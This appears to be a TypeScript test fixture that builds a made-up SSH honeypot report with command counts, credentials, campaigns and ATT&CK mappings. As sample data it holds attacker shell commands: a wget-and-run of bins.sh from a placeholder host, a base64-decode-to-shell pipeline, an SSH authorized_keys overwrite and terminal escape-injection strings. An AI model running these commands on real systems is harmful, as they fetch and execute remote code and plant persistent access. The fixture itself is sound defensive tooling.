/** A report with something in every part, made up. */
import type { SafeText } from '../../src/core/text.ts'
import type { ReportPage } from '../../src/report/html/page-model.ts'
import type { Novel, NovelKind } from '../../src/report/insights.ts'
import type { CommandEntry } from '../../src/report/model.ts'

const PERIODS = {
  daily: ['2026-11-21', '2026-11-21', '2026-11-22', '2026-11-20'],
  weekly: ['2026-W47', '2026-11-16', '2026-11-23', '2026-11-09'],
  monthly: ['2026-11', '2026-11-01', '2026-12-01', '2026-10-01'],
} as const

const KEY =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDEXAMPLEONLYNOTAKEYxq0Zk3n8sW2kq1vB7Jm5fT9hL4pX6dR8cY0uE2iO3aS5gN7bV1zQ ops@node7'
const SHA = 'e6a962e89572867e7bb35e3ba44b6e75b9ecd5b98940313a7fb6103a996889d4'

/**
 * @param textOf - makes the texts: what logs, sensors and databases of places say
 * @returns a page in which every text that is not ours went through `textOf`
 */
export function samplePage(
  kind: keyof typeof PERIODS,
  textOf: (text: string) => SafeText = (text) => text as SafeText, // a literal of this file
): ReportPage & Required<Pick<ReportPage, 'novelty' | 'quality' | 'unusual' | 'campaigns'>> {
  const [period, from, until, before] = PERIODS[kind]
  const dayCount = Math.round((Date.parse(until) - Date.parse(from)) / 86_400_000)
  const days = Array.from({ length: dayCount }, (_, i) =>
    new Date(Date.parse(from) + i * 86_400_000).toISOString().slice(0, 10),
  )
  const byDay = (scale: number) =>
    Object.fromEntries(days.map((day, i) => [day, Math.round(scale * (3 + Math.sin(i * 1.7)))]))
  const list = (
    entries: readonly (readonly [string, number, number?, number?])[],
  ): CommandEntry[] =>
    entries.map(([value, count, threatScore, hazardScore]) => ({
      value: textOf(value),
      count,
      sessions: Math.ceil(count * 0.9),
      ...(threatScore === undefined ? {} : { threatScore, hazardScore: hazardScore ?? 0 }),
    }))
  const novel = (value: string, sessions: number, threatScore: number | null = null): Novel => ({
    value: textOf(value),
    firstDay: from,
    events: sessions * 2,
    sessions,
    sensors: Math.min(4, sessions),
    threatScore,
    hazardScore: threatScore === null ? null : 12,
  })
  const lists: Record<NovelKind, Novel[]> = {
    sshKey: [novel(KEY, 61, 84)],
    file: [novel(SHA, 38)],
    command: [
      novel('ip neigh; cat ~/.ssh/known_hosts', 1, 60),
      novel('echo \\u{1B}]0;backup done\\u{07}', 1, 22),
    ],
    credential: [novel('svc-backup / Backup#2026', 12)],
    hassh: [novel('0babd4b68a5f3757987be75fe35ad60a', 18)],
    asn: [novel('AS64499', 4)],
    ip: [novel('198.51.100.203', 2), novel('2001:db8::7', 1)],
  }
  return {
    kind,
    period,
    redaction: 'internal',
    sensor: null,
    sensors: null,
    from: `${from}T00:00:00.000000Z`,
    until: `${until}T00:00:00.000000Z`,
    generatedAt: '2026-11-22T00:05:12.000000Z',
    completeness: {
      sources: 14,
      pendingBytes: 12_345,
      deadLetters: 3,
      heldEvents: 392,
      sessionsWithoutStart: 10,
      sessionsWithoutEnd: 19,
      silentSensors: [textOf('syd-02')],
    },
    sessions: {
      total: 22_637,
      uniqueIps: 3_204,
      withCommands: 9_120,
      withLogin: 14_002,
      avgCommands: 1.23,
      maxCommands: 48,
      medianDurationMs: 12_400,
    },
    logins: { attempts: 31_907, failed: 29_693, success: 2_214 },
    transfers: { downloads: 340, uploads: 62, failedDownloads: 17, uniqueFiles: 31 },
    events: {
      total: 119_591,
      byEventid: Object.fromEntries(
        [
          ['cowrie.session.connect', 22_637],
          ['cowrie.login.failed', 29_693],
          ['cowrie.login.success', 2_214],
          ['cowrie.command.input', 18_466],
          ['cowrie.session.file_download', 340],
        ].map(([name, count]) => [textOf(String(name)), Number(count)]),
      ),
      perDay: byDay(4_000),
    },
    top: {
      commands: list([
        ['cd ~; chattr -ia .ssh; lockr -ia .ssh', 682, 58],
        [`cd ~ && rm -rf .ssh && mkdir .ssh && echo "${KEY}">>.ssh/authorized_keys`, 678, 84],
        ['uname -s -v -n -r -m', 480, 12],
        ['cat /proc/cpuinfo | grep name | head -n 1', 361, 14],
        ["echo -e '\\x67\\x61\\x79'", 267, 22, 8],
        ['cd /tmp || cd /var/run; wget http://203.0.113.70/bins.sh; sh bins.sh', 190, 76],
        ['echo \\u{1B}[2J\\u{1B}]0;owned\\u{07}', 163, 18, 62],
        ['مرحبا بالعالم', 12, 0, 30],
      ]),
      passwords: list([
        ['3245gs5662d34', 349],
        ['123456', 300],
        ['toor\\u{0D}', 89],
        ['', 41],
      ]),
      usernames: list([
        ['root', 9_300],
        ['345gs5662d34', 349],
        ['ubuntu', 242],
      ]),
      credentials: list([
        ['345gs5662d34 / 345gs5662d34', 349, 0],
        ['root / 3245gs5662d34', 300, 0],
        ['root / toor\\u{0D}', 89, 4, 30],
        ['admin / admin', 217, 0],
      ]),
      ips: list([
        ['198.51.100.203', 920],
        ['192.0.2.14', 505],
        ['2001:db8::7', 31],
      ]),
      clientVersions: list([
        ['SSH-2.0-Go', 12_000],
        ['SSH-2.0-libssh_0.9.6', 4_000],
      ]),
      hassh: list([['0babd4b68a5f3757987be75fe35ad60a', 320]]),
      files: list([
        [SHA, 688],
        ['bd4b7be038c1a955dd1c4bb1b06c1e566c019ec524b34fee1eec8b1e6dc0417e', 190],
      ]),
      urls: list([['http://203.0.113.70/bins.sh', 190]]),
      countries: list([
        ['US', 4_859],
        ['CN', 3_637],
        ['NL', 2_745],
      ]),
      asns: list([
        ['AS64499', 4_410],
        ['AS64501', 2_702],
      ]).map((entry, i) => ({
        ...entry,
        organisation: i === 0 ? textOf('Delta Hosting') : null,
      })),
    },
    redactions: list([['email', 7]]),
    comparison: {
      from: `${before}T00:00:00.000000Z`,
      until: `${from}T00:00:00.000000Z`,
      perDay: days.map((_, i) => Math.round(3_000 * (3 + Math.cos(i)))),
      ...(dayCount === 1
        ? { perHour: Array.from({ length: 24 }, (_, i) => 4_000 + ((i * 7) % 5) * 700) }
        : {}),
      figures: {
        events: { now: 119_591, before: 112_056 },
        sessions: { now: 22_637, before: 21_087 },
        uniqueIps: { now: 3_204, before: 2_981 },
        loginAttempts: { now: 31_907, before: 31_907 },
        loginSuccess: { now: 2_214, before: 2_590 },
        commands: { now: 18_466, before: 16_012 },
        downloads: { now: 340, before: 0 },
        uploads: { now: 62, before: 61 },
        uniqueFiles: { now: 31, before: 44 },
      },
    },
    novelty: {
      days: 30,
      totals: { sshKey: 1, file: 3, command: 12, credential: 1, hassh: 1, asn: 1, ip: 412 },
      lists,
    },
    unusual: [
      {
        sensor: textOf('ams-02'),
        session: textOf('7c19ae04d2b8'),
        srcIp: textOf('198.51.100.203'),
        country: textOf('US'),
        startedAt: `${from}T17:22:10.000000Z`,
        durationMs: 840_000,
        commandCount: 23,
        threatScore: 71,
        hazardScore: 0,
        reasons: [
          { reason: 'by-hand', detail: null },
          { reason: 'rare-commands', detail: textOf('nproc; free -h; ./.sysd --bench') },
        ],
      },
      {
        sensor: textOf('sgp-01'),
        session: textOf('b93d0e81fa47'),
        srcIp: textOf('203.0.113.181'),
        country: textOf('DE'),
        startedAt: `${from}T19:04:00.000000Z`,
        durationMs: 3_900,
        commandCount: 1,
        threatScore: 84,
        hazardScore: 10,
        reasons: [
          { reason: 'new-file', detail: textOf(SHA) },
          { reason: 'high-threat', detail: textOf('echo … | base64 -d | gunzip | sh') },
        ],
      },
      {
        sensor: textOf('nyc-03'),
        session: textOf('5a6c20d9e713'),
        srcIp: null,
        country: null,
        startedAt: `${from}T11:15:00.000000Z`,
        durationMs: null,
        commandCount: 0,
        threatScore: 22,
        hazardScore: 62,
        reasons: [
          { reason: 'hazardous-text', detail: textOf('echo \\u{1B}]0;backup done\\u{07}') },
        ],
      },
    ],
    campaigns: [
      {
        id: '3f2a9c1b',
        shares: 'sshKey',
        value: textOf(KEY),
        addresses: 61,
        sessions: 688,
        sensors: 4,
        firstDay: days[0]!,
        lastDay: days.at(-1)!,
        threatScore: 84,
        hazardScore: 0,
      },
      {
        id: '77ab01ef',
        shares: 'commands',
        value: textOf('uname -a; nproc; crontab -l'),
        addresses: 22,
        sessions: 190,
        sensors: 6,
        firstDay: days[Math.floor(dayCount / 3)]!,
        lastDay: days[Math.floor(dayCount / 2)]!,
        threatScore: 18,
        hazardScore: 12,
      },
    ],
    attack: [
      ['T1078', 'Valid accounts', 'Initial Access', 2_214, 40],
      ['T1059.004', 'Command and Scripting Interpreter: Unix Shell', 'Execution', 1_904, 60],
      ['T1059.008', 'Network device CLI', 'Execution', 211, 30],
      ['T1098.004', 'SSH authorized keys', 'Persistence', 688, 84],
      ['T1053.003', 'Cron', 'Persistence', 42, 55],
      ['T1140', 'Deobfuscate or decode files', 'Defense Evasion', 37, 80],
      ['T1070', 'Indicator removal', 'Defense Evasion', 301, 55],
      [
        'T1222.002',
        'File and Directory Permissions Modification: Linux and Mac Permissions',
        'Defense Evasion',
        690,
        52,
      ],
      ['T1082', 'System information discovery', 'Discovery', 2_802, 14],
      ['T1033', 'System owner or user', 'Discovery', 517, 10],
      ['T1105', 'Ingress tool transfer', 'Command and Control', 402, 76],
      ['T1496', 'Resource hijacking', 'Impact', 61, 70],
    ].map(([id, name, tactic, events, threatScore]) => ({
      id: String(id),
      name: String(name),
      tactic: String(tactic),
      events: Number(events),
      threatScore: Number(threatScore),
    })),
    perHour: Array.from({ length: 24 }, (_, hour) =>
      Math.round(5_000 + 3_000 * Math.sin(hour / 3.1) + (hour % 5) * 400),
    ),
    sessionsPerDay: byDay(800),
    bounds: ['Campaigns are those of the last days: there are too many to compare them all.'],
    quality: {
      sensors: ['ams-02', 'fra-01', 'nyc-03', 'sao-01', 'syd-02'].map((sensor, i) => ({
        sensor: textOf(sensor),
        events: [28_343, 33_605, 24_636, 11_122, 0][i]!,
        heldEvents: i === 3 ? 392 : 0,
        sessionsWithoutStart: i,
        sessionsWithoutEnd: i * 2,
        isSilent: i === 4,
      })),
      fates: {
        lines: 120_402,
        stored: 119_591,
        duplicate: 412,
        held: 392,
        dead: 3,
        blank: 4,
        expired: 0,
      },
      drift: [
        {
          what: 'eventid',
          eventid: textOf('cowrie.command.privilege'),
          field: textOf('x'),
          count: 17,
        },
      ],
      tornSources: 1,
      ruleSet: '2026.11.2',
      checkpoint: { seq: 1_007, madeAt: '2026-11-22T00:05:00.000000Z', upToBatch: 41_021 },
    },
  }
}

/** The same report of a time without anything. */
export function emptyPage(kind: keyof typeof PERIODS): ReportPage {
  const page = samplePage(kind)
  const none = <T extends object>(object: T): T =>
    Object.fromEntries(Object.keys(object).map((name) => [name, 0])) as T // the same names, all numbers
  return {
    ...page,
    completeness: { ...none(page.completeness), silentSensors: [] },
    sessions: { ...none(page.sessions), medianDurationMs: null },
    logins: none(page.logins),
    transfers: none(page.transfers),
    events: { total: 0, byEventid: {}, perDay: {} },
    top: Object.fromEntries(
      Object.keys(page.top).map((name) => [name, []]),
    ) as unknown as ReportPage['top'], // the same names
    comparison: null,
    novelty: {
      days: 30,
      totals: none(page.novelty.totals),
      lists: { command: [], credential: [], file: [], sshKey: [], hassh: [], ip: [], asn: [] },
    },
    unusual: [],
    campaigns: [],
    attack: [],
    perHour: Array.from({ length: 24 }, () => 0),
    sessionsPerDay: {},
    bounds: [],
    quality: {
      ...page.quality,
      sensors: [],
      fates: none(page.quality.fates),
      drift: [],
      tornSources: 0,
      checkpoint: null,
    },
  }
}
